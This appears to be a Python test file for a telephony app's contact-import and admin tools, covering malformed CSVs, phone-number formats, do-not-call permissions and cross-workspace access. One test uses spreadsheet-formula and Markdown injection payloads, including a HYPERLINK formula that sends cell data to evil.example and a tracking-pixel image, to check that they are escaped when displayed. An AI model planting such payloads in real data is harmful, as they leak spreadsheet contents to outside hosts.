"""Bad input to the contact-admin tools (issue 18), each its own test: every one gets a
clear answer and changes nothing it shouldn't — a CSV with a NUL byte, without a phone
column, with 10,001 rows, with duplicate rows, numbers in five national formats (read in
the user's own country), names carrying Markdown and spreadsheet formulas; a
do-not-call removal by a rep; a contact in another workspace."""

from __future__ import annotations

import dataclasses
import uuid
from types import SimpleNamespace
from typing import Any

import phonenumbers
from sqlalchemy import func, select

from accounts.models import AuditEvent, Role
from core.db import Database
from telephony.models import Contact, DncEntry
from tests.accounts.helpers import make_member
from tests.chat_app.helpers import Asked
from tests.telephony.helpers import add_contact, fund, number_in
from tools import attachments
from tools.contacts_admin import delete_contact, edit_contact, import_contacts, list_contacts
from tools.context import AgentContext
from tools.dnc import remove_dnc


async def _actor(db: Database, role: Role = Role.REP, **changes: Any):
    member = await make_member(db, role)
    await fund(db, member.actor.workspace_id, 100)
    return dataclasses.replace(member.actor, **changes)


async def _run(tool: Any, ctx: AgentContext, **args: Any) -> str:
    result = await tool.coroutine(runtime=SimpleNamespace(context=ctx), **args)
    return str(result[0] if isinstance(result, tuple) else result)


async def _import(db: Database, actor, data: bytes) -> tuple[str, Asked]:
    """Attach `data` and ask to import it, answering yes to any confirmation."""
    asked = Asked(True)
    ctx = AgentContext(actor=actor, db=db, confirm=asked)
    with attachments.attached((attachments.Attachment("contacts.csv", "text/csv", data),)):
        return await _run(import_contacts, ctx), asked


async def _contacts(db: Database, workspace_id: uuid.UUID) -> list[Contact]:
    async with db.session() as session:
        rows = await session.scalars(
            select(Contact).where(Contact.workspace_id == workspace_id).order_by(Contact.name)
        )
        return list(rows.all())


async def test_a_nul_byte_rejects_its_row_only_and_stores_no_nul(db) -> None:
    rep = await _actor(db)
    good, bad = number_in("415"), number_in("415")
    data = f"name,phone\nAna Lima,{good}\nBen\x00Ode,{bad}\n".encode()
    text, asked = await _import(db, rep, data)
    assert "1 row will be imported" in asked.questions[0]
    assert "the name contains a NUL character" in asked.questions[0]
    assert text.startswith("Imported 1 contact; rejected 1 row")
    assert [c.name for c in await _contacts(db, rep.workspace_id)] == ["Ana Lima"]


async def test_a_file_without_a_phone_column_is_refused_whole(db) -> None:
    rep = await _actor(db)
    text, asked = await _import(db, rep, b"name,company\nAna Lima,Acme\n")
    assert "needs a header row with a phone column" in text and "Nothing was written" in text
    assert asked.questions == []  # nothing proposed
    assert await _contacts(db, rep.workspace_id) == []


async def test_10001_rows_are_refused_whole(db) -> None:
    rep = await _actor(db)
    rows = "".join(f"Person {i},+1415555{i % 10000:04d}\n" for i in range(10_001))
    text, asked = await _import(db, rep, ("name,phone\n" + rows).encode())
    assert "more than 10000 rows" in text and "split it" in text
    assert asked.questions == []
    assert await _contacts(db, rep.workspace_id) == []


async def test_duplicate_rows_are_imported_once_and_each_repeat_named(db) -> None:
    rep = await _actor(db)
    number = number_in("415")
    national = phonenumbers.format_number(
        phonenumbers.parse(number), phonenumbers.PhoneNumberFormat.NATIONAL
    )
    data = f"name,phone\nAna Lima,{number}\nAna Lima,{number}\nAna L.,{national}\n".encode()
    text, asked = await _import(db, rep, data)
    assert "1 row will be imported" in asked.questions[0]
    assert asked.questions[0].count("the same phone number as line 2") == 2
    assert text.startswith("Imported 1 contact; rejected 2 rows")
    assert len(await _contacts(db, rep.workspace_id)) == 1


async def test_five_national_formats_read_in_the_users_own_country(db) -> None:
    # A US rep types numbers as Americans do; a UK rep as Britons do.
    rep = await _actor(db, region="US")
    base = [number_in(area)[2:] for area in ("415", "212", "305", "312", "617")]
    formats = [
        f"({base[0][:3]}) {base[0][3:6]}-{base[0][6:]}",
        f"{base[1][:3]}-{base[1][3:6]}-{base[1][6:]}",
        f"{base[2][:3]}.{base[2][3:6]}.{base[2][6:]}",
        f"{base[3][:3]} {base[3][3:6]} {base[3][6:]}",
        f"1 {base[4]}",
    ]
    data = "name,phone\n" + "".join(f"P{i},{f}\n" for i, f in enumerate(formats))
    text, _ = await _import(db, rep, data.encode())
    assert text.startswith("Imported 5 contacts; rejected 0 rows"), text
    stored = sorted(c.phone_e164 for c in await _contacts(db, rep.workspace_id))
    assert stored == sorted(f"+1{b}" for b in base)

    uk = await _actor(db, region="GB")
    text, _ = await _import(db, uk, b"name,phone\nOlly,020 7946 0018\nMia,07912 345678\n")
    assert text.startswith("Imported 2 contacts"), text
    numbers = sorted(c.phone_e164 for c in await _contacts(db, uk.workspace_id))
    assert numbers == ["+442079460018", "+447912345678"]


async def test_markdown_and_formula_names_are_shown_as_text_and_stored_as_given(db) -> None:
    rep = await _actor(db)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    image = "![x](http://evil.example/pixel) **Bold**"
    data = f'name,phone,company\n"{evil.replace(chr(34), chr(34) * 2)}",{number_in("415")},[pay](http://evil.example)\n{image},{number_in("415")},Acme\n'
    text, asked = await _import(db, rep, data.encode())
    preview = asked.questions[0]
    assert "](http" not in preview and "![" not in preview
    assert text.startswith("Imported 2 contacts")
    names = {c.name for c in await _contacts(db, rep.workspace_id)}
    assert names == {evil, image}  # stored as given; escaped when shown
    listed = await _run(list_contacts, AgentContext(actor=rep, db=db))
    assert "![" not in listed and "](http" not in listed and "**Bold**" not in listed
    assert r"\!\[x\]\(http:\/\/evil.example\/pixel\)" in listed


async def test_a_rep_cannot_take_a_number_off_the_do_not_call_list(db) -> None:
    manager = await _actor(db, Role.MANAGER)
    rep = (await make_member(db, Role.REP, workspace_id=manager.workspace_id)).actor
    number = number_in("415")
    from telephony.dnc import add_to_dnc

    async with db.session() as session:
        await add_to_dnc(session, manager, number, reason="asked not to be called")
        await session.commit()
    asked = Asked(True)
    text = await _run(
        remove_dnc,
        AgentContext(actor=rep, db=db, confirm=asked),
        phone=number,
        reason="they said it's fine",
    )
    assert "Only a manager can take a number off the do-not-call list" in text
    assert asked.questions == []
    async with db.session() as session:
        still = await session.scalar(
            select(DncEntry).where(
                DncEntry.workspace_id == manager.workspace_id, DncEntry.phone_e164 == number
            )
        )
        assert still is not None
        removed = await session.scalar(
            select(func.count())
            .select_from(AuditEvent)
            .where(
                AuditEvent.action == "dnc_removed", AuditEvent.workspace_id == manager.workspace_id
            )
        )
        assert removed == 0


async def test_another_workspaces_contact_is_never_listed_edited_or_deleted(db) -> None:
    owner = await _actor(db, Role.MANAGER)
    theirs = await add_contact(db, owner, name="Zed Outsider")
    intruder = await _actor(db, Role.MANAGER)  # a manager, of another workspace
    asked = Asked(True)
    ctx = AgentContext(actor=intruder, db=db, confirm=asked)
    assert "Zed Outsider" not in await _run(list_contacts, ctx)
    found = await _run(list_contacts, ctx, query="Zed")
    assert "No contacts matching" in found and "Outsider" not in found
    for ref in ("Zed Outsider", str(theirs.id), theirs.phone_e164):
        edited = await _run(edit_contact, ctx, contact=ref, name="Owned")
        deleted = await _run(delete_contact, ctx, contact=ref)
        assert edited.startswith("Not changed: No") and deleted.startswith("Not deleted: No")
    assert asked.questions == []  # nothing was even proposed
    async with db.session() as session:
        stored = await session.get(Contact, theirs.id)
        assert stored.name == "Zed Outsider" and stored.deleted_at is None
